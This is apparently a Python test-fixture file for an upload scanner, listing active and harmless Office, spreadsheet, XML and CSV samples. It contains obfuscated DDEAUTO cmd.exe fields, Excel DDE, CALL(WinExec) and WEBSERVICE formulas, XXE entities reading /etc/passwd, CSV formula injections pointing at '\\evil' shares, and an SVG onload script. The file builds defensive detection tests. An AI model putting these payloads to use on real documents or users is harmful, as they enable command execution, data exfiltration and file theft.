"""Documents of Office and tables: what acts in them, and what only looks so."""

from tests.uploads.files import OLE
from tests.uploads.files import WORD
from tests.uploads.files import office


MATHS = "http://schemas.openxmlformats.org/officeDocument/2006/math"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRICT_WORD = "http://purl.oclc.org/ooxml/wordprocessingml/main"
COMPATIBLE = "http://schemas.openxmlformats.org/markup-compatibility/2006"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
LETTERS = "".join(map(chr, (0x44, 0x44, 0x45)))


# DOCX


def story(inner, root="document"):
    return f'<w:{root} xmlns:w="{WORD}" xmlns:m="{MATHS}">{inner}</w:{root}>'


def run(inner):
    return f"<w:r>{inner}</w:r>"


def char(kind):
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instr(text, tag="instrText"):
    return run(f'<w:{tag} xml:space="preserve">{text}</w:{tag}>')


def complex_field(*code, result="x"):
    """A field of runs: texts of its code, or whole fields in it."""
    inner = "".join(c if c.startswith("<") else instr(c) for c in code)
    return (
        f"<w:p>{char('begin')}{inner}{char('separate')}{run(f'<w:t>{result}</w:t>')}"
        f"{char('end')}</w:p>"
    )


def nested(*code):
    return complex_field(*code).removeprefix("<w:p>").removesuffix("</w:p>")


def simple_field(code):
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r/></w:fldSimple></w:p>'


X = 'xmlns:x="urn:x"'


def alternate(choice, fallback=None):
    """What Word takes one of; without a fallback, it may take none."""
    last = "" if fallback is None else f"<mc:Fallback>{fallback}</mc:Fallback>"
    return (
        f'<mc:AlternateContent xmlns:mc="{COMPATIBLE}"><mc:Choice Requires="wps">'
        f"{choice}</mc:Choice>{last}</mc:AlternateContent>"
    )


def text_box(inner):
    """A text box as Word writes it: of today, and once more for older programs."""
    content = f"<w:txbxContent>{inner}</w:txbxContent>"
    return run(
        alternate(
            f'<w:drawing><s:wsp xmlns:s="urn:wps"><s:txbx>{content}</s:txbx></s:wsp>'
            "</w:drawing>",
            f'<w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml">{content}'
            "</v:textbox></w:pict>",
        )
    )


#: Addresses of files, as they stand in codes of fields.
SERVERS = (
    "\\\\\\\\192.168.1.5\\\\a.png",
    "//x.example/a.png",
    "file://x.example/a.png",
    "file:///\\\\192.168.1.5\\a.png",
    "file:////x.example/a.png",
    "file:\\\\\\\\x.example\\a.png",
    "FILE:/\\x.example/a.png",
    "file:///%5C%5Cx.example/a.png",
)
DRIVES = (
    "C:\\\\a.png",
    "file:///C:\\Users\\a.png",
    "file:///D:/a.png",
    "a.png",
    "../a/b.png",
)
CMD = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
ACTIVE_FIELDS = {
    "whole": complex_field(CMD),
    "small letters": complex_field(CMD.lower()),
    "DDE": complex_field(' DDE Excel "C:\\\\a.xlsx" R1C1 '),
    "cut into runs": complex_field(" D", "D", "E", "AUTO", " c:\\\\cmd"),
    "cut in letters": complex_field(*CMD),
    "simple": simple_field(CMD.replace('"', "&quot;")),
    "simple, first sign a blank that is none": simple_field("&#8203;DDE x y"),
    "in quotation marks": complex_field(' "DDEAUTO" c:\\\\cmd '),
    "no blank behind": complex_field('DDEAUTO"c:\\\\cmd"'),
    "full width": complex_field("\uff24\uff24\uff25AUTO c:\\\\cmd"),
    "letters by number": complex_field("&#68;&#68;&#69; c:\\\\cmd"),
    "in a condition": complex_field(' IF "a"="a" ', nested(CMD), ' "b" '),
    "deep": complex_field(" IF ", nested(" IF ", nested(CMD))),
    "name of another field": complex_field(
        " ", nested(" QUOTE 68 68 69 65 85 84 79 "), " c:\\\\cmd"
    ),
    "half a name of another field": complex_field(
        " DD", nested(' REF "rest" '), " c:\\\\cmd"
    ),
    "name of a simple field": complex_field(
        '<w:fldSimple w:instr=" REF n "><w:r/></w:fldSimple>', " c:\\\\cmd"
    ),
    "spelled": complex_field(" QUOTE 68 68 69 65 85 84 79 32 99 "),
    "behind what was deleted": complex_field(
        instr(" PAGE ", "delInstrText"), instr("DDEAUTO c:\\\\cmd")
    ),
    "deleted": complex_field(instr(CMD, "delInstrText")),
    "never ended": f"<w:p>{char('begin')}{instr(CMD)}</w:p>",
    "never begun": f"<w:p>{instr(CMD)}</w:p>",
    "in the result of another": f"<w:p>{char('begin')}{instr(' TOC ')}"
    f"{char('separate')}{nested(CMD)}{char('end')}</w:p>",
    "other file": complex_field(" LINK Excel.Sheet.12 C:\\\\a.xlsx R1C1 \\a "),
    "text of a server": complex_field(' INCLUDETEXT "\\\\\\\\x.example\\\\a.docx" '),
    "picture of a server": complex_field(' INCLUDEPICTURE "\\\\\\\\x\\\\a.png" \\d '),
    "data": complex_field(' DATABASE \\d "C:\\\\a.mdb" '),
    "decoy beside the code": f'<w:p><w:fldSimple {X} x:instr="PAGE" '
    'w:instr="DDEAUTO c:\\\\cmd"/></w:p>',
    "decoy beside the kind": f"<w:p>{char('begin')}{instr(' PAGE ')}"
    + run(f'<w:fldChar {X} x:fldCharType="end" w:fldCharType="begin"/>')
    + instr(CMD)
    + "</w:p>",
    "ended by another's element": f"<w:p>{char('begin')}"
    + run(f'<x:fldChar {X} w:fldCharType="end"/>')
    + f"{instr(CMD)}{char('end')}</w:p>",
    "result by another's element": f"<w:p>{char('begin')}"
    + run(f'<x:fldChar {X} w:fldCharType="separate"/>')
    + f"{instr(CMD)}{char('end')}</w:p>",
    "behind another's code": f"<w:p>{char('begin')}"
    f"<x:instrText {X}>PAGE</x:instrText>{instr(CMD)}{char('end')}</w:p>",
    "behind what may be left out": f"<w:p>{char('begin')}"
    f"<x:a {X}>{instr(' PAGE ')}</x:a>{instr(CMD)}{char('end')}</w:p>",
    "element in a code": complex_field(instr(f"DD<x:a {X}>X</x:a>EAUTO c:\\\\cmd")),
    "in a choice": complex_field(alternate(instr(CMD), instr(" PAGE "))),
    "in the other choice": complex_field(alternate(instr(" PAGE "), instr(CMD))),
    "cut by choices": complex_field(" DD", alternate(instr("E"), instr("X")), "AUTO c"),
    "cut by what may be left out": complex_field(
        " DD", alternate(instr("X")), "EAUTO c"
    ),
    "ended in a choice": f"<w:p>{char('begin')}{instr(' PAGE ')}"
    + alternate(char("end") + char("begin"), "")
    + f"{instr(CMD)}{char('end')}</w:p>",
    "begun in a choice": f"<w:p>{alternate(char('begin'), '')}{instr(CMD)}"
    f"{char('end')}</w:p>",
    "begun in a choice in a field": f"<w:p>{char('begin')}{instr(' PAGE ')}"
    + alternate(char("begin"), "")
    + f"{instr(CMD)}{alternate(char('end'), '')}{char('end')}</w:p>",
    "whole in a choice": alternate(complex_field(CMD), complex_field(" PAGE ")),
    "link never begun": f"<w:p>{instr(' PAGE ')}{instr(' LINK Excel a.xlsx ')}</w:p>",
    "text never begun": f"<w:p>{instr(' INCLUDE')}{instr('TEXT a.docx ')}</w:p>",
    **{
        f"{name} of {server}": complex_field(f' {name} "{server}" ')
        for name in ("INCLUDEPICTURE", "RD", "IMPORT", "HYPERLINK")
        for server in SERVERS
    },
}
HARMLESS_FIELDS = {
    "page": complex_field(" PAGE ") + simple_field(" NUMPAGES "),
    "contents": complex_field(' TOC \\o "1-3" \\h ', result="DDE và DDEAUTO"),
    "link with the letters": complex_field(' HYPERLINK "https://x.example/dde/a" '),
    "link to a place of that name": complex_field(" REF DDE \\h "),
    "condition": complex_field("IF", nested(" PAGE "), '=1 "a" "b" '),
    "sum": complex_field("=", nested(" PAGE "), "+1"),
    "click here": complex_field(" MACROBUTTON NoMacro [Ghi tên] "),
    "picture of a page": complex_field(' INCLUDEPICTURE "http://x.example/a.png" '),
    "box with a page": text_box(complex_field(" PAGE ")),
    "box in a result": f"<w:p>{char('begin')}{instr(' REF a ')}{char('separate')}"
    f"{text_box(complex_field(' PAGE '))}{char('end')}</w:p>",
    "box in a condition": complex_field(
        ' IF "a"="a" ', text_box(complex_field(" PAGE ")), ' "b" '
    ),
    "same in both choices": complex_field(alternate(instr(" PAGE "), instr(" PAGE "))),
    "same code twice": f'<w:p><w:fldSimple {X} x:instr="PAGE" w:instr="PAGE"/></w:p>',
    "another's elements": f'<x:fldChar {X} x:fldCharType="end"/>'
    f"<x:instrText {X}>PAGE</x:instrText>",
    "link never begun": f"<w:p>{instr(' HYPERLINK http://x/link/a ')}</w:p>",
    "code in a formula": complex_field(f"<m:oMath>{instr(' QUOTE ')}</m:oMath>"),
    **{
        f"{name} of {drive}": complex_field(f' {name} "{drive}" ')
        for name in ("INCLUDEPICTURE", "RD", "HYPERLINK")
        for drive in DRIVES
    },
    "date": simple_field(" DATE \\@ &quot;dd/MM/yyyy&quot; "),
    "words in the text": "<w:p><w:r><w:t>DDEAUTO cmd|'/c calc'!A1</w:t></w:r></w:p>",
    "fraction": "<w:p><m:oMath><m:f><m:fPr/><m:num><m:r><m:t>cmd|'/c'!A</m:t></m:r>"
    "</m:num><m:den><m:r><m:t>DDE(2)</m:t></m:r></m:den></m:f></m:oMath></w:p>",
    "function in a text": "<w:p><m:oMath><m:func><m:fName/></m:func></m:oMath></w:p>",
}
#: Parts of a DOCX that hold fields: name, root element.
STORIES = (
    ("word/document.xml", "document"),
    ("word/header1.xml", "hdr"),
    ("word/footer2.xml", "ftr"),
    ("word/footnotes.xml", "footnotes"),
    ("word/endnotes.xml", "endnotes"),
    ("word/comments.xml", "comments"),
    ("word/glossary/document.xml", "glossaryDocument"),
    ("WORD\\Header9.XML", "hdr"),
    ("other/place.xml", "hdr"),
    ("word/header1.dat", "hdr"),
)


def docx(inner, part="word/document.xml", root="document"):
    if part == "word/document.xml":
        return office("docx", body=story(inner))
    return office("docx", (part, story(inner, root)))


# XLSX


def sheet(inner, namespace=SHEET, part="xl/worksheets/sheet1.xml", prefix=""):
    colon = f"{prefix}:" if prefix else ""
    declared = f"xmlns:{prefix}" if prefix else "xmlns"
    text = f'<{colon}worksheet {declared}="{namespace}">{inner}</{colon}worksheet>'
    return office("xlsx", (part, text))


def cell(formula, prefix=""):
    colon = f"{prefix}:" if prefix else ""
    return (
        f'<{colon}sheetData><{colon}row r="1"><{colon}c r="A1"><{colon}f>{formula}'
        f"</{colon}f><{colon}v>0</{colon}v></{colon}c></{colon}row></{colon}sheetData>"
    )


ACTIVE_FORMULAS = (
    "cmd|'/c calc'!A1",
    "'cmd'|'/c calc'!A1",
    "1+cmd|' /C calc'!A0",
    "IF(A1=1,MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!'',0)",
    "_xlfn.WEBSERVICE(&quot;http://x.example/?&quot;&amp;A1)",
    "webservice (A1)",
    "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)",
    "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,A1,0)",
    "_xlfn.IMAGE(&quot;https://x.example/?&quot;&amp;A1)",
    "'C:\\[b.xlsx]S'!A1",
    "IMPORTXML(&quot;http://x&quot;,&quot;//a&quot;)",
    'WEBSERVI<x:a xmlns:x="urn:x"><f>1</f></x:a>CE(&quot;http://e&quot;)',
    'WEBSERVI<x:a xmlns:x="urn:x">JUNK</x:a>CE(&quot;http://e&quot;)',
    'WEBSERVI<f xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main">1</f>CE(A1)',
    "'a&quot;b'!A1+WEBSERVICE(&quot;http://e&quot;)",
    "T['x]&amp;CALL(A1)&amp;T['y]",
    "[b.xlsx]S!A1",
    "'\\\\x.example\\b.xlsx'!Tên",
    "'C:\\a.b\\c'!A1",
)
HARMLESS_FORMULAS = (
    "SUM(A1:A3)",
    "VLOOKUP(A1,'Danh mục'!$A$1:$B$9,2,0)",
    "A1&amp;&quot;|&quot;&amp;B1&amp;&quot;!&quot;",
    "IF(A1=&quot;cmd|'/c calc'!A1&quot;,1,0)",
    "Bảng1[Số tiền]*2",
    "Bảng1[[#This Row],[Tên|Họ]]",
    "HYPERLINK(&quot;#'Tháng 1'!A1&quot;,A1)",
    "'O''Brien'!A1+'A|B'!A1",
    "SUMPRODUCT(--(A1:A3&gt;0))",
    "'Image(1)'!A1+'Run(2)'!B2+'Call(a)'!C3",
    "SUM(T['#1],T['#2])",
    "SUM(T[['#1]:['#2]])",
    "SUM('Tháng 1:Tháng 3'!A1)",
    "[0]!Tên",
    "A1&amp;&quot;it's&quot;&amp;B1&amp;&quot;'#1&quot;",
    "-5",
)
CHOICES = (
    f'<extLst><ext xmlns:x14="{X14}"><x14:dataValidations count="1" xmlns:xm="{XM}">'
    '<x14:dataValidation type="list" allowBlank="1"><x14:formula1><xm:f>%s</xm:f>'
    "</x14:formula1><xm:sqref>B2:B100</xm:sqref></x14:dataValidation>"
    "</x14:dataValidations></ext></extLst>"
)
HARMLESS_SHEETS = {
    "choices of another sheet": sheet(CHOICES % "'Danh mục'!$A$1:$A$9"),
    "choices": sheet(
        '<dataValidations><dataValidation type="list"><formula1>"Có,Không"</formula1>'
        "</dataValidation><dataValidation><formula1>'Danh mục'!$A$1:$A$9</formula1>"
        "</dataValidation></dataValidations>"
    ),
    "text like a formula": sheet(
        "<sheetData><row><c t=\"inlineStr\"><is><t>=cmd|'/c calc'!A1</t></is></c></row>"
        "</sheetData>"
    ),
    "shared text like one": office(
        "xlsx",
        (
            "xl/sharedStrings.xml",
            f'<sst xmlns="{SHEET}"><si><t>DDE( WEBSERVICE( ddeLink</t></si></sst>',
        ),
    ),
    "colours by a rule": sheet(
        "<conditionalFormatting><cfRule><formula>$A1&gt;5</formula></cfRule>"
        "</conditionalFormatting>"
    ),
    "what is printed": office(
        "xlsx",
        body=f"<workbook xmlns=\"{SHEET}\"><definedNames><definedName>'Trang 1'!$A$1:"
        "$B$2</definedName></definedNames></workbook>",
    ),
    "own data": office(
        "xlsx",
        ("customXml/item1.xml", '<connection xmlns="urn:x"><f>a</f></connection>'),
    ),
}
ACTIVE_SHEETS = {
    "choices": sheet(CHOICES % "WEBSERVICE(A1)"),
    "name": office(
        "xlsx",
        body=f'<workbook xmlns="{SHEET}"><definedNames><definedName name="a">'
        "cmd|'/c calc'!A1</definedName></definedNames></workbook>",
    ),
    "link by DDE": office(
        "xlsx",
        (
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" '
            'ddeTopic="/c calc"/></externalLink>',
        ),
    ),
    "link by DDE elsewhere": office(
        "xlsx",
        (
            "xl/other/a.dat",
            f'<x:externalLink xmlns:x="{STRICT}"><x:ddeLink ddeService="cmd"/>'
            "</x:externalLink>",
        ),
    ),
    "connection elsewhere": office(
        "xlsx",
        (
            "xl/a.xml",
            f'<connections xmlns="{SHEET}"><connection id="1"/></connections>',
        ),
    ),
    "query": office(
        "xlsx",
        (
            "customXml/item1.xml",
            '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>',
        ),
    ),
    "pivot of a database": office(
        "xlsx",
        (
            "xl/pivotCache/pivotCacheDefinition1.xml",
            f'<pivotCacheDefinition xmlns="{SHEET}"><cacheSource type="external"/>'
            "</pivotCacheDefinition>",
        ),
    ),
    "program as a picture": office("xlsx", ("xl/media/image1.png", b"\x7fELF\x02\x01")),
    "compound file": office("xlsx", ("xl/media/a.emf", OLE)),
    "drawing that runs": office(
        "xlsx",
        (
            "xl/media/a.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
    ),
}


# definitions

ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
#: Ways to write a part with definitions.
DEFINED = {
    "plain": f"{ENTITY}<x/>".encode(),
    "with a declaration": f'<?xml version="1.0"?>{ENTITY}<x/>'.encode(),
    "with a mark": b"\xef\xbb\xbf" + f"{ENTITY}<x/>".encode(),
    "behind a remark": f"<!-- a --><?b c?>\n{ENTITY}<x/>".encode(),
    "behind a long remark": f"<!--{'a b ' * 99_000}-->{ENTITY}<x/>".encode(),
    "UTF-16": f"{ENTITY}<x/>".encode("utf-16"),
    "UTF-16, big end": b"\xfe\xff" + f"{ENTITY}<x/>".encode("utf-16-be"),
    "UTF-16, no mark": f'<?xml version="1.0"?>{ENTITY}<x/>'.encode("utf-16-le"),
    "outside": b'<!DOCTYPE x SYSTEM "http://x.example/a.dtd"><x/>',
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>',
}
NOT_DEFINED = {
    "word in a text": b"<x>&lt;!DOCTYPE html&gt;</x>",
    "word in a section": b"<x><![CDATA[<!DOCTYPE html>]]></x>",
    "word in a remark": b"<!-- <!DOCTYPE html> --><x/>",
    "UTF-16": '<?xml version="1.0" encoding="UTF-16"?><x>ư</x>'.encode("utf-16"),
    "empty": b"",
}


# cells of a CSV

RUN = (
    '=WEBSERVICE("http://x.example")',
    "  =cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://x.example/?"&A1)',
    '\r=IMPORTXML("http://x.example")',
    '＝WEBSERVICE("x")',
    '“=DDE("cmd";"/C calc";"x")',
    "Ông A\n=WEBSERVICE(1)",
    '\u200b=hyperlink ("x")',
    '＋ＨＹＰＥＲＬＩＮＫ（"x"）',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IF(1,importdata("x"),0)',
    "='\\\\evil\\s\\[b.xlsx]S'!A1",
    "='\\\\evil\\s\\b.xlsx'!Ten",
    "='file:///etc/passwd'#$passwd.A1",
    "=[b.xlsx]S!A1",
    "=1+[b.xlsx]S!$A$1",
    "=\"it's\"&'\\\\evil\\[b.xlsx]S'!A1",
    "- anh A's\n='\\\\evil\\[b.xlsx]S'!A1",
    "=IMAGE(A1)",
    "=DDE(A1;A2;A3)",
)
PLAIN = (
    "-5",
    "-12.500.000",
    "+84 912 345 678",
    "- không -",
    "@thads.hanoi",
    "a@b.vn",
    "- Có | Không!",
    "=> xem mục 2",
    "'=cmd|'/c calc'!A1",
    "- xem ảnh (image), gọi (call)",
    "WEBSERVICE(1)",
    "- Important (xem phụ lục)",
    "- Gọi call(1)",
    "- Image(1).jpg kèm theo",
    "- Register(2), run( 3 )",
    "-DDE (x)",
    "- Cuber (a)",
    "- Phòng 'A'! Tầng 'B'#2",
    "='Tháng 1'!A1/2+'Tháng 2'!B1",
    "- [Mật] Gửi! Xem [1]",
    "anh A's='\\\\evil\\[b.xlsx]S'!A1",
)
